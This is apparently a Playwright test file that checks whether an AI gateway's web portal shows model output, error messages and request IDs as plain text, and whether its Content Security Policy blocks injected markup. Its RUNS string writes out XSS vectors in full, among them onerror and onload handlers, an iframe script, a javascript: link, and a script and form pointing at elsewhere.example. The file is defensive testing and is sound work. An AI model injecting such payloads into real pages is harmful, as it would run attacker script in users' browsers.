"""What a model, a provider's error or a name says is text to a real browser; and were it markup, its page would not run
it."""

from __future__ import annotations

import json

import pytest
from playwright.sync_api import Page, Route, expect

from tests.browser.windows import Desk, House
from tests.portal.test_hostile import PAYLOADS

pytestmark = pytest.mark.attack("F30")

SOON = 30_000
CALLS = "**/v1/messages"
# By every way that markup runs something: each would say so.
RUNS = """(place) => {
  const said = document.createElement("div");
  said.innerHTML = `<img src=x onerror="window.pwned = 'handler'"><svg onload="window.pwned = 'svg'"></svg>
    <iframe srcdoc="<script>parent.pwned = 'frame'</script>"></iframe><a href="javascript:window.pwned = 'link'">x</a>
    <object data="data:text/html,<script>1</script>"></object><base href="https://elsewhere.example/">
    <form action="https://elsewhere.example/"><button>send</button></form>`;
  document.body.append(said);
  for (const text of ["window.pwned = 'script'", ""]) {
    const script = document.createElement("script");
    if (text) script.textContent = text; else script.src = "https://elsewhere.example/pwn.js";
    document.body.append(script);
  }
  said.querySelector("a").click();
  said.querySelector("button").click();
}"""


def told(route: Route) -> None:
    """A stream of a model that says all the payloads, each as a part of its thoughts and of its answer."""
    events: list[tuple[str, dict]] = [
        (
            "message_start",
            {"message": {"id": "msg_1", "model": PAYLOADS[0], "usage": {"input_tokens": 1, "output_tokens": 1}}},
        ),
        ("content_block_start", {"index": 0, "content_block": {"type": "thinking", "thinking": ""}}),
        *(
            ("content_block_delta", {"index": 0, "delta": {"type": "thinking_delta", "thinking": said}})
            for said in PAYLOADS
        ),
        ("content_block_stop", {"index": 0}),
        ("content_block_start", {"index": 1, "content_block": {"type": "text", "text": ""}}),
        *(("content_block_delta", {"index": 1, "delta": {"type": "text_delta", "text": said}}) for said in PAYLOADS),
        ("content_block_stop", {"index": 1}),
        ("message_delta", {"delta": {"stop_reason": "end_turn"}, "usage": {"output_tokens": 9}}),
        ("message_stop", {}),
    ]
    body = "".join(f"event: {name}\ndata: {json.dumps({'type': name, **data})}\n\n" for name, data in events)
    route.fulfill(status=200, headers={"content-type": "text/event-stream", "request-id": PAYLOADS[2]}, body=body)


def refused(route: Route) -> None:
    error = {"type": PAYLOADS[0], "message": " ".join(PAYLOADS)}
    route.fulfill(
        status=400,
        headers={"content-type": "application/json", "request-id": PAYLOADS[4]},
        body=json.dumps({"type": "error", "error": error}),
    )


def ask(page: Page, house: House) -> None:
    page.goto(house.url("/t/acme/playground/?model=claude-test"))
    page.evaluate("() => { window.pwn7 = () => { window.pwned = 'payload'; }; }")
    page.get_by_label("Message").fill(" ".join(PAYLOADS))
    page.get_by_label("Message").press("Control+Enter")


def made(page: Page) -> int:
    """Elements in the conversation that the page's own script has not made."""
    return page.locator(
        "[data-talk] :is(img, svg, script, iframe, style, base, meta, form, math, [onload], [hx-get])"
    ).count()


def test_what_a_model_says_is_text(page: Page, house: House, desk: Desk, figure):
    page.route(CALLS, told)
    ask(page, house)
    answer = page.locator(".turn.assistant .turn-text").last
    expect(answer).to_contain_text(PAYLOADS[-1], timeout=SOON)
    for said in PAYLOADS:
        assert said in answer.inner_text()
    page.get_by_text("As code").click()
    expect(page.locator("#openai-python")).to_contain_text("pwn7", timeout=SOON)
    assert made(page) == 0
    assert page.evaluate("window.pwned") is None
    page.evaluate("() => { document.querySelector('[data-talk]').insertAdjacentHTML('beforeend', '<img>'); }")
    assert made(page) == 1, "one would be found"
    page.unroute(CALLS)
    desk.watch.complaints.clear()  # its outcome is not known: the call was never made
    figure("F30", "texts of a model that stay text in a browser", len(PAYLOADS), least=30)


def test_what_an_error_says_is_text(page: Page, house: House, desk: Desk):
    page.route(CALLS, refused)
    ask(page, house)
    expect(page.locator("[data-talk] [role=alert]")).to_be_visible(timeout=SOON)
    assert made(page) == 0
    assert page.evaluate("window.pwned") is None
    page.unroute(CALLS)
    desk.watch.complaints.clear()


@pytest.mark.parametrize(
    "place", ["/t/acme/", "/t/acme/keys/", "/t/acme/playground/", "/account/", "/admin/", "/api/v1/docs/"]
)
def test_markup_that_got_in_runs_nothing(page: Page, house: House, desk: Desk, place: str):
    """Nor does it load anything from elsewhere, send a form there, or lead the page's own links there."""
    page.goto(house.url(place))
    asked: list[str] = []
    page.on("requestfinished", lambda request: asked.append(request.url))
    page.evaluate(RUNS)
    page.evaluate("() => new Promise((done) => setTimeout(done, 100))")
    assert page.evaluate("window.pwned") is None
    assert page.evaluate("document.baseURI").startswith(house.gateway.base_url)
    assert page.url.startswith(house.gateway.base_url)
    assert [url for url in asked if "elsewhere" in url] == []
    assert any("Content Security Policy" in said or "Content-Security-Policy" in said for said in desk.watch.complaints)
    desk.watch.complaints.clear()
